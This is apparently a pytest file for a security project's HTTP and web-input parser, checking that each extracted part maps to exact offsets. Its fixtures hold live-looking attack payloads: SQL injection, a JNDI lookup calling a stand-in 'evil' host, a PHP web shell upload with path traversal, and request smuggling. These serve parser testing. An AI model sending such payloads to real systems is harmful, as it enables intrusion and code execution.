"""Tests for secllm.data.http: every part's offsets must index the original input."""

from __future__ import annotations

import pytest

from secllm.data.http import (
    HttpParseError,
    Part,
    iter_raw_requests,
    parse_http_request,
    split_web_input,
)


def _split(text: str) -> tuple[str, list[tuple[str, str]]]:
    """split_web_input plus the offset invariant, checked for every part."""
    kind, parts = split_web_input(text)
    for p in parts:
        assert isinstance(p, Part)
        assert text[p.start : p.end] == p.text, p
    return kind, [(p.name, p.text) for p in parts]


def test_bare_payload_is_one_value_part() -> None:
    text = "' OR 1=1 -- "
    kind, parts = split_web_input(text)
    assert kind == "payload"
    assert parts == [Part("value", text, 0, len(text))]


def test_payload_with_space_before_question_mark_is_not_a_url() -> None:
    assert _split("1 or a=1?x=y")[0] == "payload"


def test_url_with_query_repeated_names_bare_params_and_fragment() -> None:
    text = "  http://ex.com/a/b.php?id=1&id=2&debug&user%5B%24ne%5D=x#<svg>\n"
    kind, parts = _split(text)
    assert kind == "url"
    assert parts == [
        ("path", "/a/b.php"),
        ("query:id", "1"),
        ("query:id", "2"),
        ("query", "debug"),
        ("query-name", "user%5B%24ne%5D"),  # unusual names are scored too
        ("query:user[$ne]", "x"),
        ("fragment", "<svg>"),
    ]
    _, raw_parts = split_web_input(text)
    assert [p.start for p in raw_parts[1:3]] == [text.index("1&"), text.index("2&")]


def test_relative_url_without_path() -> None:
    kind, parts = _split("?q=%27%20or%201=1")
    assert kind == "url"
    assert parts == [("query:q", "%27%20or%201=1")]


def test_url_without_parts_falls_back_to_value() -> None:
    assert _split("https://example.com") == ("url", [("value", "https://example.com")])


def test_full_get_with_crlf_headers_and_cookies() -> None:
    text = (
        "GET /shop/item.php?id=1'#-- HTTP/1.1\r\n"
        "Host: shop.example\r\n"
        "User-Agent: ${jndi:ldap://evil/a}\r\n"
        "Accept: */*\r\n"
        "Cookie: sid=abc123; theme=dark; flag\r\n"
        "X-Api-Version: 1.0\r\n"
        "\r\n"
    )
    kind, parts = _split(text)
    assert kind == "http"
    assert parts == [
        ("path", "/shop/item.php"),
        ("query:id", "1'#--"),  # '#' in a request target is literal, not a fragment
        ("header:user-agent", "${jndi:ldap://evil/a}"),
        ("cookie:sid", "abc123"),
        ("cookie:theme", "dark"),
        ("cookie", "flag"),
        ("header:x-api-version", "1.0"),
    ]


def test_post_urlencoded_with_lf_endings() -> None:
    body = "user=admin&pass=%27+or+%271%27%3D%271&remember"
    text = (
        "POST /login HTTP/1.1\nHost: a\nContent-Type: application/x-www-form-urlencoded\n"
        f"Content-Length: {len(body)}\n\n{body}"
    )
    kind, parts = _split(text)
    assert kind == "http"
    assert parts == [
        ("path", "/login"),
        ("body:user", "admin"),
        ("body:pass", "%27+or+%271%27%3D%271"),
        ("body", "remember"),
    ]
    req = parse_http_request(text)
    assert req.body == body and text[req.body_start :] == body


def test_post_json_leaves_have_raw_offsets() -> None:
    body = '{"user": {"name": "a\\"b", "$ne": null, "tags": ["x", 3.5e2]}, "ok": true, "n": -1}'
    text = f"POST /api HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{body}"
    kind, parts = _split(text)
    assert kind == "http"
    assert parts == [
        ("path", "/api"),
        ("body:user.name", 'a\\"b'),  # raw (escaped) text as it appears in the request
        ("body-key:user.$ne", "$ne"),  # NoSQL operator keys are scored
        ("body:user.tags[0]", "x"),
        ("body:user.tags[1]", "3.5e2"),
        ("body:n", "-1"),
    ]


def test_invalid_json_body_is_one_body_part() -> None:
    text = 'POST /api HTTP/1.1\nContent-Type: application/json\n\n{"a": 1,,}'
    assert _split(text)[1][-1] == ("body", '{"a": 1,,}')


def test_multipart_fields_and_filename() -> None:
    body = (
        "--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nhello\r\nworld\r\n"
        "--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../s.php\"\r\n"
        "Content-Type: text/plain\r\n\r\n<?php system($_GET[c]); ?>\r\n--XyZ--\r\n"
    )
    text = (
        "POST /upload HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=XyZ\r\n"
        f"Content-Length: {len(body)}\r\n\r\n{body}"
    )
    kind, parts = _split(text)
    assert kind == "http"
    assert parts == [
        ("path", "/upload"),
        ("body:title", "hello\r\nworld"),
        ("filename:file", "../../s.php"),
        ("body:file", "<?php system($_GET[c]); ?>"),
    ]


def test_chunked_body_and_smuggled_trailing_request() -> None:
    chunked = (
        "POST /c HTTP/1.1\r\nTransfer-Encoding: chunked\r\n"
        "Content-Type: application/x-www-form-urlencoded\r\n\r\n7\r\na=1&b=2\r\n0\r\n\r\n"
    )
    assert _split(chunked)[1] == [("path", "/c"), ("body:a", "1"), ("body:b", "2")]
    smuggled = "POST /l HTTP/1.1\r\nContent-Length: 3\r\n\r\na=1GET /admin HTTP/1.1\r\n\r\n"
    assert _split(smuggled)[1][-1] == ("trailing", "GET /admin HTTP/1.1")


def test_content_length_counts_utf8_bytes() -> None:
    text = "POST /x HTTP/1.1\nContent-Length: 4\n\nq=é\n\nGET /next HTTP/1.1\n"  # 'é' is 2 bytes
    req = parse_http_request(text)
    assert req.body == "q=é" and not req.truncated
    assert _split(text)[1][-1] == ("trailing", "GET /next HTTP/1.1")
    assert parse_http_request("POST /x HTTP/1.1\nContent-Length: 99\n\nq=1").truncated


def test_binary_body_decoded_as_latin1_is_taken_whole() -> None:
    text = "POST /x HTTP/1.1\r\nContent-Length: 4\r\n\r\n\xff\xfe\x00\x81"
    req = parse_http_request(text)
    assert req.body == "\xff\xfe\x00\x81" and not req.truncated
    assert "trailing" not in dict(_split(text)[1])


@pytest.mark.parametrize(
    "text",
    [
        "GET / HTTP/1.1\nthis header has no colon\n\n",
        "GET / HTTP/1.1\r\nX: 1\r\n\r\n" + "[" * 5000,  # deep JSON nesting, sniffed body
        "\x00\xff\ud800 GET",
        "",
    ],
)
def test_malformed_input_never_raises(text: str) -> None:
    kind, parts = _split(text)
    assert kind in {"payload", "http"}
    assert parts


def test_malformed_request_is_payload_and_parser_raises() -> None:
    text = "GET / HTTP/1.1\nthis header has no colon\n\n"
    assert split_web_input(text) == ("payload", [Part("value", text, 0, len(text))])
    with pytest.raises(HttpParseError):
        parse_http_request(text)
    with pytest.raises(HttpParseError):
        parse_http_request("hello world")


def test_request_without_body_or_final_blank_line() -> None:
    req = parse_http_request("\r\nget /a?b=1 http/1.0\r\nHost: x")  # lower-cased dataset style
    assert (req.method, req.target, req.version) == ("get", "/a?b=1", "http/1.0")
    assert req.header("HOST") == "x" and req.body == ""
    assert req.headers == [("Host", "x", req.body_start - 1, req.body_start)]


def test_folded_header_keeps_exact_offsets() -> None:
    text = "GET / HTTP/1.1\r\nX-Long: a\r\n  b\r\n\r\n"
    req = parse_http_request(text)
    name, value, s, e = req.headers[0]
    assert value == "a\r\n  b" and text[s:e] == value


def test_iter_raw_requests_respects_content_length_and_blank_lines() -> None:
    body = "q=1\n\nGET /inside HTTP/1.1"  # a body holding a blank line and a request line
    text = (
        "GET /a HTTP/1.1\nHost: x\n\n\n"
        f"POST /b HTTP/1.1\nContent-Length: {len(body)}\n\n{body}"
        "\n\nnot a request\n\n"
        "POST /d HTTP/1.1\r\nHost: y\r\n\r\nbody-without-length\r\n\r\n"
    )
    segs = list(iter_raw_requests(text))
    for start, end, raw in segs:
        assert text[start:end] == raw
    raws = [raw for _, _, raw in segs]
    assert raws[0] == "GET /a HTTP/1.1\nHost: x\n\n"
    assert parse_http_request(raws[1]).body == body
    assert raws[2] == "not a request"
    with pytest.raises(HttpParseError):
        parse_http_request(raws[2])
    assert parse_http_request(raws[3]).body == "body-without-length"
    assert len(raws) == 4


def test_iter_raw_requests_pipelined_without_blank_separator() -> None:
    text = "GET /1 HTTP/1.1\r\nHost: a\r\n\r\nGET /2 HTTP/1.1\r\nHost: a\r\n\r\n"
    targets = [parse_http_request(raw).target for _, _, raw in iter_raw_requests(text)]
    assert targets == ["/1", "/2"]


def test_split_web_input_kind_hint():
    import pytest

    from secllm.data.http import split_web_input

    kind, parts = split_web_input("/etc/passwd", "payload")
    assert kind == "payload" and [(p.name, p.text) for p in parts] == [("value", "/etc/passwd")]
    kind, parts = split_web_input("a=1&b=/x", "query")
    assert kind == "query" and [p.name for p in parts] == ["query:a", "query:b"]
    # the caller's word is taken: a stated URL is split as one
    kind, parts = split_web_input("/a/b?x=' or 1=1--", "url")
    assert kind == "url" and ("query:x", "' or 1=1--") in [(p.name, p.text) for p in parts]
    with pytest.raises(ValueError):
        split_web_input("x", "nonsense")
